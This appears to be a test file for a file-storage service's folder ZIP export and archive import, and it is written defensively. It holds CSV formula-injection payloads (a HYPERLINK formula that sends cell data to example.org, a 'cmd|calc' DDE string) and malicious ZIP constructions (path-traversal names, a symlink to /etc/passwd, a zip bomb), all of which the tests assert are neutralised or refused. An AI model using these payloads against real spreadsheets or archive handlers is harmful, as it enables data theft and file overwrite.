import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeEach, describe, expect, onTestFinished, test } from 'vitest'
import {
  act,
  attempt,
  createFolder,
  createUpload,
  createWorkspace,
  sendBytes,
  trashEntries,
  uploadFile,
  usageOf,
} from '../../support/client.ts'
import { expectUnchanged } from '../../support/data/refusals.ts'
import { startTestServer, type TestServer } from '../../support/servers/test-server.ts'

let holdall: TestServer
let workspaceId: string
let rootId: string
/** The clock of the server. */
let now: number

beforeEach(async () => {
  now = Date.now()
  holdall = await startTestServer({ now: () => now })
  onTestFinished(() => holdall[Symbol.asyncDispose]())
  const workspace = await createWorkspace(holdall)
  workspaceId = workspace.id
  rootId = workspace.root.id
})

const urlOf = async (id: string): Promise<string> => {
  const query =
    'query ($id: ID!) { node(id: $id) { ... on Folder { archiveUrl { url expiresAt } } } }'
  return (await holdall.ask(query, { id })).node.archiveUrl.url
}
const get = (url: string, headers: Record<string, string> = {}, method = 'GET') =>
  holdall.http(url, { token: null, headers, method })
const bytesOf = async (response: Response) => Buffer.from(await response.arrayBuffer())
const archiveOf = async (id: string) => bytesOf(await get(await urlOf(id)))
const manifestUrl = (url: string, format: string) =>
  `${url.slice(0, url.lastIndexOf('/'))}/manifest?format=${format}`
const file = (name: string, bytes: string | Uint8Array, more = {}) =>
  uploadFile(holdall, { workspaceId, name, bytes, ...more })
const sha256 = (bytes: string | Uint8Array) => createHash('sha256').update(bytes).digest('hex')

/** Creates a folder with one of everything. */
async function project() {
  const folder = await createFolder(holdall, { workspaceId, name: 'Projekt Größe' })
  const inside = { folderId: folder.id }
  await file('manifest.json', 'not that one', inside)
  await file('plate,1.csv', 'v1', { ...inside, tags: ['red', 'plate'], description: 'the "first"' })
  await file('plate,1.csv', 'version two', { ...inside, onConflict: 'NEW_VERSION' })
  await file('empty.bin', '', inside)
  await file('数据.txt', 'unicode', { ...inside, path: 'raw/2025', metadata: { ph: 7.4 } })
  await file('a\\b?.txt', 'windows', { ...inside, path: 'raw' })
  await createFolder(holdall, {
    folder: { id: folder.id },
    name: 'leer',
    tags: ['blue'],
    description: 'nothing',
  })
  return folder
}

/** The output of unzip for an archive. */
function unpacked(zip: Buffer): { names: string[]; test: string } {
  const dir = mkdtempSync(join(tmpdir(), 'holdall-zip-'))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  const path = join(dir, 'a.zip')
  writeFileSync(path, zip)
  const tested = spawnSync('unzip', ['-t', path], { encoding: 'utf8' })
  const listed = spawnSync('unzip', ['-Z1', path], { encoding: 'utf8' })
  return { names: listed.stdout.trim().split('\n'), test: `${tested.stdout}${tested.stderr}` }
}
const hasUnzip = spawnSync('unzip', ['-v']).status === 0
const hasPython = spawnSync('python3', ['-c', 'import zipfile']).status === 0

/** Reads members with Python's zipfile: name → [text, modified]. */
function readByPython(zip: Buffer): Record<string, [string, number]> {
  const program = `import sys,io,json,zipfile,base64
z=zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()))
assert z.testzip() is None
print(json.dumps({i.filename:[base64.b64encode(z.read(i)).decode(),list(i.date_time)] for i in z.infolist()}))`
  const { stdout, stderr } = spawnSync('python3', ['-c', program], {
    input: zip,
    maxBuffer: 2 ** 28,
  })
  if (stdout.length === 0) throw new Error(stderr.toString())
  const members = JSON.parse(stdout.toString()) as Record<string, [string, number[]]>
  return Object.fromEntries(
    Object.entries(members).map(([name, [base64, [y = 0, mo = 1, d, h, mi, s]]]) => [
      name,
      [Buffer.from(base64, 'base64').toString(), Date.UTC(y, mo - 1, d, h, mi, s)],
    ]),
  )
}

describe('the archive of a folder', () => {
  test('declares its exact length, and is the same each time', async () => {
    const folder = await project()
    const url = await urlOf(folder.id)
    const head = await get(url, {}, 'HEAD')
    const first = await get(url)
    const bytes = await bytesOf(first)
    expect(head.headers.get('content-length')).toBe(String(bytes.length))
    expect(first.headers.get('etag')).toBe(head.headers.get('etag'))
    expect(first.headers.get('content-disposition')).toContain(
      "filename*=UTF-8''Projekt%20Gr%C3%B6%C3%9Fe.zip",
    )
    expect(first.headers.get('content-type')).toBe('application/zip')
    expect((await archiveOf(folder.id)).equals(bytes)).toBe(true)
  })

  test.runIf(hasUnzip)('passes unzip -t', async () => {
    const { names, test: output } = unpacked(await archiveOf((await project()).id))
    expect(output).toMatch(/No errors detected/)
    expect(names.at(-1)).toBe('manifest.json')
    expect(names.filter((name) => /(^|\/)\.\.(\/|$)|^\/|\\/.test(name))).toEqual([])
  })

  test.runIf(hasPython)('contains the tree, times, older versions and the manifest', async () => {
    now = Date.UTC(2025, 4, 6, 7, 8, 10)
    const members = readByPython(await archiveOf((await project()).id))
    expect(members['plate,1.csv']).toEqual(['version two', now])
    expect(members['.versions/plate,1.csv/1.csv']).toEqual(['v1', now])
    expect(members['raw/2025/数据.txt']?.[0]).toBe('unicode')
    expect(members['leer/']?.[0]).toBe('')
    expect(members['empty.bin']?.[0]).toBe('')
    const { entries } = JSON.parse(members['manifest.json']?.[0] ?? '')
    const byPath = Object.fromEntries(entries.map((entry: any) => [entry.path, entry]))
    expect(byPath['plate,1.csv']).toMatchObject({
      kind: 'file',
      size: 11,
      sha256: sha256('version two'),
      mediaType: 'text/csv',
      tags: ['plate', 'red'],
      description: 'the "first"',
      createdAt: '2025-05-06T07:08:10.000Z',
      versions: [
        { number: 1, size: 2, sha256: sha256('v1'), member: '.versions/plate,1.csv/1.csv' },
        { number: 2, size: 11, sha256: sha256('version two'), member: 'plate,1.csv' },
      ],
    })
    expect(byPath.leer).toMatchObject({ kind: 'folder', description: 'nothing', tags: ['blue'] })
    expect(byPath['raw/2025/数据.txt'].metadata).toEqual({ ph: 7.4 })
    // Names that a system could not unpack, or that equal the manifest's, differ in the archive.
    for (const path of ['manifest.json', 'raw/a\\b?.txt']) {
      const { member } = byPath[path].versions[0]
      expect(member).not.toBe(path)
      expect(members[member]?.[0]).toBe(path === 'manifest.json' ? 'not that one' : 'windows')
    }
  })

  test('seed C53: cut anywhere, goes on by Range, byte for byte', async () => {
    const folder = await project()
    await file('big.bin', Buffer.alloc(700_000, 'holdall '), { folderId: folder.id })
    const url = await urlOf(folder.id)
    // The first request has no CRCs yet: the bytes must not depend on which request came first.
    const cuts = [0, 1, 29, 500, 350_000, 700_500, 702_000]
    const etag = (await get(url, {}, 'HEAD')).headers.get('etag') ?? ''
    const tail = await bytesOf(await get(url, { Range: 'bytes=700500-' }))
    await holdall.app.db.deleteFrom('blobCrcs').execute()
    const whole = await bytesOf(await get(url))
    expect(tail.equals(whole.subarray(700_500))).toBe(true)
    for (const cut of [...cuts, whole.length - 100, whole.length - 1]) {
      const rest = await get(url, { Range: `bytes=${cut}-`, 'If-Range': etag })
      expect([rest.status, (await bytesOf(rest)).equals(whole.subarray(cut))]).toEqual([206, true])
      const middle = await get(url, { Range: `bytes=${cut}-${cut + 99}` })
      expect((await bytesOf(middle)).equals(whole.subarray(cut, cut + 100))).toBe(true)
    }
    const past = await get(url, { Range: `bytes=${whole.length}-` })
    expect([past.status, past.headers.get('content-range')]).toEqual([
      416,
      `bytes */${whole.length}`,
    ])
  })

  test('never mixes two states: after a change the whole archive is sent', async () => {
    const folder = await project()
    const url = await urlOf(folder.id)
    const etag = (await get(url, {}, 'HEAD')).headers.get('etag') ?? ''
    expect((await get(url, { 'If-None-Match': etag })).status).toBe(304)
    await file('new.txt', 'new', { folderId: folder.id })
    const rest = await get(url, { Range: 'bytes=100-', 'If-Range': etag })
    expect(rest.status).toBe(200)
    expect(rest.headers.get('etag')).not.toBe(etag)
  })

  test('of a workspace’s root contains everything; of an empty folder the manifest', async () => {
    await project()
    const all = await (await get(manifestUrl(await urlOf(rootId), 'json'))).json()
    expect(all.entries[0].path).toBe('Projekt Größe')
    expect(all.entries).toHaveLength(9)
    const empty = await createFolder(holdall, { workspaceId, name: 'empty' })
    const none = await (await get(manifestUrl(await urlOf(empty.id), 'json'))).json()
    expect(none.entries).toEqual([])
  })

  test('leaves out trashed entries, and does not exist if its folder is trashed', async () => {
    const folder = await project()
    const url = await urlOf(folder.id)
    const { entries } = await (await get(manifestUrl(url, 'json'))).json()
    await trashEntries(holdall, { id: entries.find(({ path }: any) => path === 'raw').id })
    const left = await (await get(manifestUrl(url, 'json'))).json()
    expect(left.entries.map(({ path }: any) => path).join()).not.toMatch(/raw/)
    await trashEntries(holdall, folder)
    expect((await get(url)).status).toBe(404)
  })

  test('is logged when it is downloaded, not when it is resumed', async () => {
    const folder = await project()
    const url = await urlOf(folder.id)
    await (await get(url)).arrayBuffer()
    await (await get(url, { Range: 'bytes=10-' })).arrayBuffer()
    await get(url, {}, 'HEAD')
    const query = `query ($id: ID!) { workspace(by: { id: $id }) {
      activity(filter: { actions: [ARCHIVE_DOWNLOADED] }) { nodes { entryId path } }
    } }`
    const { workspace } = await holdall.ask(query, { id: workspaceId })
    expect(workspace.activity.nodes).toEqual([{ entryId: folder.id, path: 'Projekt Größe' }])
  })

  test('has a signed link that cannot be altered, and that expires', async () => {
    const folder = await project()
    const other = await createFolder(holdall, { workspaceId, name: 'other' })
    const url = await urlOf(folder.id)
    expect((await get(url.replace(folder.id, other.id))).status).toBe(403)
    expect((await get(url, {}, 'POST')).status).toBe(405)
    now += 3_600_000
    expect((await (await get(url)).json()).code).toBe('URL_EXPIRED')
    const query = `query ($id: ID!) { node(id: $id) { ... on Folder { archiveUrl(expiresInSeconds: 604801) { url } } } }`
    const { errors } = await holdall.graphql(query, { id: folder.id })
    expect(errors?.[0]?.extensions?.code).toBe('INVALID_INPUT')
  })

  test('seed C52: has its manifest as a table too', async () => {
    const url = await urlOf((await project()).id)
    const response = await get(manifestUrl(url, 'csv'))
    expect(response.headers.get('content-type')).toBe('text/csv')
    const lines = (await response.text()).trim().split('\r\n')
    expect(lines[0]).toBe(
      'path,kind,id,size,mediaType,sha256,description,tags,metadata,createdAt,updatedAt,versions',
    )
    expect(lines).toHaveLength(9)
    const plate = lines.find((line) => line.startsWith('"plate,1.csv"')) ?? ''
    expect(plate).toContain('"the ""first"""')
    expect(plate).toContain('plate; red')
    const wrong = await get(manifestUrl(url, 'xml'))
    expect([wrong.status, (await wrong.json()).path]).toEqual([400, ['format']])
  })
})

describe('the manifest as CSV', () => {
  const formulas = [
    ...['=1+1', '+1', '-1', '@SUM(A1)', "'=1+1", "''=1", "'plain", '＝1', '＋1', '－1', '＠a'],
    ...['=HYPERLINK("http://example.org?"&A1)', '-2+3+cmd|calc', 'a;=1', 'a,=1', 'a=1'],
  ]

  /** Parses the cells (RFC 4180) without the quote that protects formulas. */
  const readCsv = (text: string) =>
    text
      .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .filter((line) => line !== '')
      .map((line) =>
        [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain = '']) =>
          (quoted?.replaceAll('""', '"') ?? plain).replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, ''),
        ),
      )

  test('gives no spreadsheet a formula to evaluate, in any cell', async () => {
    const folder = await createFolder(holdall, { workspaceId, name: 'formulas' })
    for (const [i, text] of formulas.entries()) {
      const name = text.replaceAll('/', '_')
      const input = { workspaceId, folderId: folder.id, name: `${name}${i}` }
      await uploadFile(holdall, { ...input, bytes: text, description: text, tags: [text] })
    }
    for (const description of ['\t=1', '\r=1', '\n=1'])
      await createFolder(holdall, {
        folder: { id: folder.id },
        name: description.slice(1),
        description,
        onConflict: 'RENAME',
      })
    const text = await (await get(manifestUrl(await urlOf(folder.id), 'csv'))).text()
    const raw = [...text.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r]*))/g)]
    expect(raw.length).toBeGreaterThan(19 * 12)
    for (const [, quoted, plain = ''] of raw)
      expect(quoted ?? plain).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  })

  test('equals the manifest when it is parsed', async () => {
    const folder = await createFolder(holdall, { workspaceId, name: 'back' })
    for (const [i, text] of formulas.entries()) {
      const name = `${text.replaceAll('/', '_')}${i}`
      const more = { description: text, tags: [text], metadata: { '=1': text } }
      await uploadFile(holdall, { workspaceId, folderId: folder.id, name, bytes: name, ...more })
    }
    const url = await urlOf(folder.id)
    const { entries } = (await (await get(manifestUrl(url, 'json'))).json()) as { entries: any[] }
    const [head = [], ...lines] = readCsv(await (await get(manifestUrl(url, 'csv'))).text())
    const cell = (entry: any, column: string) => {
      const value = entry[column] ?? ''
      if (column === 'tags') return value.join('; ')
      return typeof value === 'object' ? JSON.stringify(value) : String(value)
    }
    expect(lines).toEqual(entries.map((entry) => head.map((column) => cell(entry, column))))
  })
})

/** Uploads these bytes. Returns the id of the upload, which is not confirmed. */
async function uploaded(bytes: Uint8Array, name = 'archive.zip') {
  const uploadInput = { workspaceId, path: `parcels/${Math.random()}`, name, size: bytes.length }
  const upload = await createUpload(holdall, uploadInput)
  await sendBytes(holdall, upload, bytes)
  return upload.id
}
const stateOf = async (id: string) => {
  const query = 'query ($id: ID!) { node(id: $id) { ... on Upload { status file { id } } } }'
  return (await holdall.ask(query, { id })).node
}
const importInto = async (folder: { id: string }, bytes: Uint8Array, more = {}) => {
  const input = { uploadId: await uploaded(bytes), folder: { id: folder.id }, ...more }
  return act(holdall, 'importArchive', input, 'folder { id path } entryCount')
}
const refusal = async (folder: { id: string }, bytes: Uint8Array, more = {}) => {
  const uploadId = await uploaded(bytes)
  const input = { uploadId, folder: { id: folder.id }, ...more }
  const importing = () => attempt(holdall, 'importArchive', input, '__typename')
  return expectUnchanged(holdall, importing, uploadId)
}
const newFolder = (name: string) => createFolder(holdall, { workspaceId, name })
const manifestOf = async (id: string) => (await get(manifestUrl(await urlOf(id), 'json'))).json()
/** Leaves out what an import cannot preserve: ids and times. */
const withoutIdsAndTimes = (manifest: object) =>
  JSON.parse(
    JSON.stringify(manifest, (key, value) =>
      /^id$|^(created|updated)At$/.test(key) ? undefined : value,
    ),
  )

/** A ZIP written by Python: `members` are [name, bytes], `program` may use `z` further. */
function zipByPython(members: [string, string][], program = '') {
  const script = `import sys,io,json,zipfile,stat
b=io.BytesIO();z=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED)
for n,t in json.loads(sys.argv[1]): z.writestr(n,t)
${program}
z.close();sys.stdout.buffer.write(b.getvalue())`
  const { stdout, stderr } = spawnSync(
    'python3',
    ['-W', 'ignore', '-c', script, JSON.stringify(members)],
    {
      maxBuffer: 2 ** 28,
    },
  )
  if (stdout.length === 0) throw new Error(stderr.toString())
  return stdout
}

describe('an import', () => {
  test('seed C54: of an archive made here rebuilds everything: export → import → export', async () => {
    const folder = await project()
    const contentModifiedAt = '2019-03-04T05:06:07.089Z'
    const { id } = await file('gaps.txt', '1', { folderId: folder.id, contentModifiedAt })
    const second = await file('gaps.txt', '22', { folderId: folder.id, onConflict: 'NEW_VERSION' })
    await file('gaps.txt', '333', { folderId: folder.id, onConflict: 'NEW_VERSION' })
    await act(holdall, 'deleteVersion', { versionId: second.version.id }, 'versionId')
    const archive = await archiveOf(folder.id)
    const before = await usageOf(holdall, workspaceId)
    const target = await newFolder('target')
    const imported = await importInto(target, archive)
    expect(imported).toMatchObject({ folder: { id: target.id, path: 'target' }, entryCount: 9 })
    const [from, to] = [await manifestOf(folder.id), await manifestOf(target.id)]
    expect(withoutIdsAndTimes(to)).toEqual(withoutIdsAndTimes(from))
    const gaps = to.entries.find(({ path }: any) => path === 'gaps.txt')
    expect(gaps.id).not.toBe(id)
    expect(gaps.versions[0]).toMatchObject({ contentModifiedAt })
    const after = await usageOf(holdall, workspaceId)
    // Twice the files, with shared blobs.
    expect(after.fileCount - before.fileCount).toBe(6)
    expect(after.storedBytes - before.storedBytes).toBe(0)
    expect((await archiveOf(target.id)).length).toBe(archive.length)
  })

  test('F23: accepts names with U+2028, U+2029 and U+0085 from an archive', async () => {
    const folder = await newFolder('one\u2028two')
    const names = ['a\u2028b.txt', 'c\u2029d.txt', 'e.txt']
    for (const name of names) await file(name, name, { folderId: folder.id })
    await createFolder(holdall, { folder: { id: folder.id }, name: 'f\u2029g', tags: ['h\u2028i'] })
    const target = await newFolder('target')
    expect(await importInto(target, await archiveOf(folder.id))).toMatchObject({ entryCount: 4 })
    const [from, to] = [await manifestOf(folder.id), await manifestOf(target.id)]
    expect(withoutIdsAndTimes(to)).toEqual(withoutIdsAndTimes(from))
    expect(to.entries.map(({ path }: any) => path)).toEqual(expect.arrayContaining(names))
  })

  test('consumes the upload, whose bytes are deleted; a second import is refused', async () => {
    const folder = await project()
    const uploadId = await uploaded(await archiveOf(folder.id))
    const before = await usageOf(holdall, workspaceId)
    const input = { uploadId, folder: { id: (await newFolder('once')).id } }
    await act(holdall, 'importArchive', input, 'entryCount')
    expect(await stateOf(uploadId)).toEqual({ status: 'COMPLETE', file: null })
    expect((await usageOf(holdall, workspaceId)).reservedBytes).toBe(0)
    expect(before.reservedBytes).toBeGreaterThan(0)
    await expect(holdall.app.blobs.sha256(uploadId, 1)).rejects.toThrow()
    const again = await attempt(holdall, 'importArchive', input, '__typename')
    expect(again).toMatchObject({ code: 'INVALID_STATE', path: ['uploadId'] })
  })

  test('that fails leaves the upload, which can be imported or confirmed', async () => {
    const folder = await project()
    const uploadId = await uploaded(await archiveOf(folder.id))
    const input = { uploadId, folder: { id: folder.id } }
    const refused = await attempt(holdall, 'importArchive', input, '__typename')
    expect(refused).toMatchObject({ code: 'NAME_CONFLICT' })
    expect(await stateOf(uploadId)).toEqual({ status: 'RECEIVED', file: null })
    const target = await newFolder('second try')
    const done = { uploadId, folder: { id: target.id } }
    expect((await act(holdall, 'importArchive', done, 'entryCount')).entryCount).toBe(8)
    const other = await uploaded(await archiveOf(folder.id))
    await attempt(holdall, 'importArchive', { ...input, uploadId: other }, '__typename')
    const { file } = await act(holdall, 'confirmUpload', { uploadId: other }, 'file { name }')
    expect(file.name).toBe('archive.zip')
    const confirmed = { ...done, uploadId: other }
    expect(await attempt(holdall, 'importArchive', confirmed, '__typename')).toMatchObject({
      code: 'INVALID_STATE',
      path: ['uploadId'],
    })
  })

  test('twice at the same time imports once', async () => {
    const folder = await project()
    const uploadId = await uploaded(await archiveOf(folder.id))
    const target = await newFolder('one of two')
    const input = { uploadId, folder: { id: target.id } }
    const both = await Promise.all(
      [1, 2].map(() => attempt(holdall, 'importArchive', input, 'entryCount')),
    )
    expect(both.map(({ code = null }) => code).sort()).toEqual(['INVALID_STATE', null].sort())
    expect((await manifestOf(target.id)).entries).toHaveLength(8)
  })

  test('into another workspace brings the bytes along', async () => {
    const archive = await archiveOf((await project()).id)
    const uploadId = await uploaded(archive)
    const elsewhere = await createWorkspace(holdall, { name: 'Elsewhere' })
    const destination = { id: elsewhere.root.id }
    const { entryCount } = await act(
      holdall,
      'importArchive',
      { uploadId, folder: destination },
      'entryCount',
    )
    expect(entryCount).toBe(8)
    const again = await archiveOf(elsewhere.root.id)
    expect(again.length).toBe(archive.length)
    if (hasPython)
      expect(Object.keys(readByPython(again))).toEqual(Object.keys(readByPython(archive)))
  })

  test('resolves name conflicts as onConflict says', async () => {
    const folder = await project()
    const archive = await archiveOf(folder.id)
    expect(await refusal(folder, archive)).toMatchObject({ code: 'NAME_CONFLICT' })
    await importInto(folder, archive, { onConflict: 'RENAME' })
    const renamed = (await manifestOf(folder.id)).entries.map(({ path }: any) => path)
    expect(renamed).toEqual(
      expect.arrayContaining([
        'plate,1 (2).csv',
        'raw (2)/2025/数据.txt',
        'leer (2)',
        'raw/2025/数据.txt',
      ]),
    )
    const other = await newFolder('other')
    await importInto(other, archive)
    await importInto(other, archive, { onConflict: 'NEW_VERSION' })
    const { entries } = await manifestOf(other.id)
    expect(entries).toHaveLength(8)
    const plate = entries.find(({ path }: any) => path === 'plate,1.csv')
    expect(plate.versions.map(({ number, size }: any) => [number, size])).toEqual([
      [1, 2],
      [2, 11],
      [3, 2],
      [4, 11],
    ])
    await importInto(other, archive, { onConflict: 'REPLACE' })
    expect(withoutIdsAndTimes(await manifestOf(other.id))).toEqual(
      withoutIdsAndTimes(await manifestOf((await cleanCopy(archive)).id)),
    )
  })
  const cleanCopy = async (archive: Uint8Array) => {
    const clean = await newFolder(`clean ${Math.random()}`)
    await importInto(clean, archive)
    return clean
  }

  test.runIf(hasPython)('takes any other ZIP as a plain tree', async () => {
    const zip = zipByPython([
      ['docs/readme.txt', 'hello '.repeat(1000)],
      ['docs/deep/er/a.csv', 'a,b'],
      ['манифест.txt', 'x'],
      ['manifest.json', '{"name":"a web app"}'],
      ['empty/', ''],
    ])
    const target = await newFolder('target')
    expect(await importInto(target, zip)).toMatchObject({ entryCount: 5 })
    const { entries } = await manifestOf(target.id)
    expect(entries.map(({ path, size }: any) => [path, size])).toEqual([
      ['manifest.json', 20],
      ['манифест.txt', 1],
      ['docs', undefined],
      ['docs/readme.txt', 6000],
      ['docs/deep', undefined],
      ['docs/deep/er', undefined],
      ['docs/deep/er/a.csv', 3],
      ['empty', undefined],
    ])
  })

  describe.runIf(hasPython)('S1, S23, F23: is refused as a whole, and writes nothing:', () => {
    const link = `i=zipfile.ZipInfo('link');i.create_system=3;i.external_attr=(stat.S_IFLNK|0o777)<<16;z.writestr(i,'/etc/passwd')`
    const cases: [string, [string, string][], string][] = [
      ['a name that escapes', [['../evil.txt', 'x']], ''],
      ['a name that escapes deeper inside', [['a/../../evil.txt', 'x']], ''],
      ['an absolute name', [['/etc/evil', 'x']], ''],
      ['a drive', [['C:/evil', 'x']], ''],
      ['a backslash', [['..\\evil', 'x']], ''],
      ['a control character', [['a\u0007b', 'x']], ''],
      [
        'twins',
        [
          ['a', '1'],
          ['a', '2'],
        ],
        '',
      ],
      ['a link', [['ok.txt', 'x']], link],
      ['a bomb', [], `z.writestr('bomb','0'*30_000_000)`],
      ['another packing', [], `z.writestr('a','x'*100,compress_type=zipfile.ZIP_BZIP2)`],
    ]
    test.each(cases)('%s', async (_, members, program) => {
      const target = await newFolder('target')
      const answer = await refusal(target, zipByPython(members, program))
      expect(answer).toMatchObject({ code: 'INVALID_INPUT', path: ['uploadId'] })
    })

    const flip = (zip: Buffer, text: string, to: string) => {
      const at = zip.indexOf(text)
      const other = Buffer.from(zip)
      other.write(to, at)
      return other
    }
    const storedZip = () => zipByPython([], `z.writestr('a.txt','genuine',compress_type=0)`)

    test('bytes that do not match their record', async () => {
      const answer = await refusal(
        await newFolder('target'),
        flip(storedZip(), 'genuine', 'forgery'),
      )
      expect(answer).toMatchObject({ code: 'INVALID_INPUT', path: ['uploadId'] })
    })

    test('a file that is no ZIP, or only a part of one', async () => {
      const target = await newFolder('target')
      const zip = storedZip()
      const end = zip.length - 22
      const spoiled = [
        zip.subarray(0, zip.length - 1),
        zip.subarray(20),
        Buffer.from('hello'),
        Buffer.alloc(0),
        // Encrypted, by the flag of the central record.
        flip(zip, 'PK\x01\x02', 'PK\x01\x02').fill(
          1,
          zip.indexOf('PK\x01\x02') + 8,
          zip.indexOf('PK\x01\x02') + 9,
        ),
        // More members than exist.
        Buffer.concat([
          zip.subarray(0, end + 8),
          Buffer.from([9, 0, 9, 0]),
          zip.subarray(end + 12),
        ]),
      ]
      for (const bytes of spoiled) {
        expect(await refusal(target, bytes)).toMatchObject({
          code: 'INVALID_INPUT',
          path: ['uploadId'],
        })
      }
    })

    const rewritten = (archive: Buffer, change: string) => {
      const script = `import sys,io,json,zipfile
src=zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read()));b=io.BytesIO();z=zipfile.ZipFile(b,'w')
m=src.read('manifest.json').decode()
lines=m.split('\\n')
files={n:src.read(n) for n in src.namelist() if n!='manifest.json'}
${change}
for n,t in files.items(): z.writestr(n,t)
z.writestr('manifest.json',m)
z.close();sys.stdout.buffer.write(b.getvalue())`
      const { stdout, stderr } = spawnSync('python3', ['-c', script], {
        input: archive,
        maxBuffer: 2 ** 28,
      })
      if (stdout.length === 0) throw new Error(stderr.toString())
      return stdout
    }

    test('refuses false records in the manifest', async () => {
      const folder = await newFolder('honest')
      await file('a.txt', 'truth', { folderId: folder.id })
      const archive = await archiveOf(folder.id)
      const [target, sha] = [await newFolder('target'), sha256('truth')]
      await importInto(await newFolder('rewritten'), rewritten(archive, ''))
      const lies: [string, string][] = [
        ['CHECKSUM_MISMATCH', `m=m.replace('${sha}','${'0'.repeat(64)}')`],
        ['INVALID_INPUT', `m=m.replace('"size":5','"size":6')`],
        ['INVALID_INPUT', `m=m.replace('"path":"a.txt"','"path":"../a.txt"')`],
        ['INVALID_INPUT', `m=m.replace('"member":"a.txt"','"member":"b.txt"')`],
        ['INVALID_INPUT', `m=m.replace('"kind":"file"','"kind":"link"')`],
        ['INVALID_INPUT', `m=m.replace('"number":1','"number":0')`],
        ['INVALID_INPUT', `files['hidden.txt']=b'x'`],
        ['INVALID_INPUT', `m=lines[0]+'\\n{nonsense\\n]}\\n'`],
      ]
      for (const [code, lie] of lies) {
        const answer = await refusal(target, rewritten(archive, lie))
        expect([lie, answer.code]).toEqual([lie, code])
      }
    })
  })

  test('F23: that fails at its last name leaves no row and no blob', async () => {
    const folder = await newFolder('source')
    for (const name of ['a.txt', 'b.txt', 'c.txt']) {
      await file(name, `1 ${name}`, { folderId: folder.id })
      await file(name, `2 ${name}`, { folderId: folder.id, onConflict: 'NEW_VERSION' })
    }
    const archive = await archiveOf(folder.id)
    const target = await newFolder('target')
    await createFolder(holdall, { folder: { id: target.id }, name: 'c.txt' })
    const answer = await refusal(target, archive, { onConflict: 'NEW_VERSION' })
    expect(answer.code).toBe('NAME_CONFLICT')
  })

  test('S23, F23: stops at the quota before it writes a byte, and refuses an unconfirmed upload', async () => {
    const folder = await project()
    const big = await file('big.bin', Buffer.alloc(50_000, 1), { folderId: folder.id })
    const archive = await archiveOf(folder.id)
    const target = await newFolder('target')
    const uploadId = await uploaded(archive)
    const open = await createUpload(holdall, { workspaceId, name: 'open.zip', size: 5 })
    const { currentBytes, olderVersionBytes } = await usageOf(holdall, workspaceId)
    const quotaBytes = currentBytes + olderVersionBytes + 50_000
    await act(holdall, 'updateWorkspace', { workspaceId, quotaBytes }, '__typename')
    const input = { uploadId, folder: { id: target.id } }
    const importing = () => attempt(holdall, 'importArchive', input, '__typename')
    const full = await expectUnchanged(holdall, importing, uploadId)
    expect(full.code).toBe('QUOTA_EXCEEDED')
    const early = await attempt(
      holdall,
      'importArchive',
      { ...input, uploadId: open.id },
      '__typename',
    )
    expect(early).toMatchObject({ code: 'UPLOAD_INCOMPLETE', path: ['uploadId'] })
    const into = await attempt(
      holdall,
      'importArchive',
      { ...input, folder: { id: big.id } },
      '__typename',
    )
    expect(into).toMatchObject({ code: 'INVALID_STATE', path: ['folder'] })
  })
})
